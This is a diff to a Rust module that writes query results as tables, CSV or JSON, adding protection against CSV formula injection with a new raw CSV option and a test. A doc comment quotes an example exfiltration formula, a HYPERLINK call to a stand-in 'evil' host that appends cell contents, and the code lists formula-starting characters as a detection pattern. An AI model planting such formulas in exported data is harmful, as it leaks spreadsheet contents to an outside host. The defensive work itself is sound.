@@ -1,6 +1,16 @@
 //! Result writers: an aligned table for people, CSV (RFC 4180 quoting), one
 //! JSON array, or newline-delimited JSON. Values keep their type: numbers
 //! stay numbers in JSON and NULL is `null`.
+//!
+//! Event fields are written by whoever logs in (`user_agent`, `user_name`,
+//! `description`, ...), so a result can hold text such as
+//! `=HYPERLINK("http://evil/?"&A1)`. Spreadsheets run a cell starting with
+//! `=`, `+`, `-`, `@`, tab or carriage return as a formula (CSV injection,
+//! OWASP). `--format csv` therefore writes such text cells with a leading
+//! `'`, which spreadsheets take as "this is text" and do not display;
+//! numbers are numbers, not text, and stay as they are. `csv-raw`, JSON and
+//! NDJSON keep every value exact; the table is for a terminal, where nothing
+//! is executed (control characters are shown as spaces there).
 
 use std::io::{self, Write};
 
@@ -64,7 +74,8 @@ pub trait Sink {
 pub fn sink<'a, W: Write + 'a>(format: Format, out: W) -> Box<dyn Sink + 'a> {
     match format {
         Format::Table => Box::new(Table::new(out)),
-        Format::Csv => Box::new(Csv { out }),
+        Format::Csv => Box::new(Csv { out, raw: false }),
+        Format::CsvRaw => Box::new(Csv { out, raw: true }),
         Format::Json => Box::new(Json {
             out,
             names: Vec::new(),
@@ -82,6 +93,22 @@ pub fn sink<'a, W: Write + 'a>(format: Format, out: W) -> Box<dyn Sink + 'a> {
 
 struct Csv<W: Write> {
     out: W,
+    /// Keep text exact instead of defusing formulas (`csv-raw`).
+    raw: bool,
+}
+
+/// The first characters that make a spreadsheet evaluate a cell (OWASP,
+/// "CSV Injection").
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Text a spreadsheet would run as a formula, with a leading `'` that makes
+/// it literal text; any other text unchanged.
+pub fn defuse_formula(s: &str) -> std::borrow::Cow<'_, str> {
+    if s.starts_with(FORMULA_START) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
 }
 
 /// RFC 4180: a field is quoted when it holds a comma, a quote, CR or LF, and
@@ -113,10 +140,22 @@ impl<W: Write> Csv<W> {
 
 impl<W: Write> Sink for Csv<W> {
     fn columns(&mut self, names: &[String]) -> io::Result<()> {
-        self.line(names.iter().map(|n| n.as_str().into()))
+        // Column names come from the SQL text (`AS "=..."`): text cells too.
+        let raw = self.raw;
+        self.line(names.iter().map(|n| {
+            if raw {
+                n.as_str().into()
+            } else {
+                defuse_formula(n)
+            }
+        }))
     }
     fn row(&mut self, row: &[Value]) -> io::Result<()> {
-        self.line(row.iter().map(|v| v.to_text().into()))
+        let raw = self.raw;
+        self.line(row.iter().map(|v| match v {
+            Value::Text(s) if !raw => defuse_formula(s),
+            v => v.to_text().into(),
+        }))
     }
     fn finish(&mut self) -> io::Result<()> {
         self.out.flush()
@@ -274,6 +313,25 @@ mod tests {
             ],
         );
         assert_eq!(out, "a,b\r\n\"x,\"\"y\"\"\nz\",\r\n3,1.5\r\n");
+    }
+
+    #[test]
+    fn csv_defuses_text_formulas_but_not_numbers_and_csv_raw_keeps_them() {
+        let rows = [
+            vec![Value::Text("=1+2".into()), Value::Int(-5)],
+            vec![Value::Text("+x".into()), Value::Real(-1.5)],
+            vec![Value::Text("-x,y".into()), Value::Text("@SUM(A1)".into())],
+            vec![Value::Text("\tt".into()), Value::Text("\rr".into())],
+            vec![Value::Text("a=b".into()), Value::Text(String::new())],
+        ];
+        assert_eq!(
+            render(Format::Csv, &rows),
+            "a,b\r\n'=1+2,-5\r\n'+x,-1.5\r\n\"'-x,y\",'@SUM(A1)\r\n'\tt,\"'\rr\"\r\na=b,\r\n"
+        );
+        assert_eq!(
+            render(Format::CsvRaw, &rows),
+            "a,b\r\n=1+2,-5\r\n+x,-1.5\r\n\"-x,y\",@SUM(A1)\r\n\tt,\"\rr\"\r\na=b,\r\n"
+        );
     }
 
     #[test]
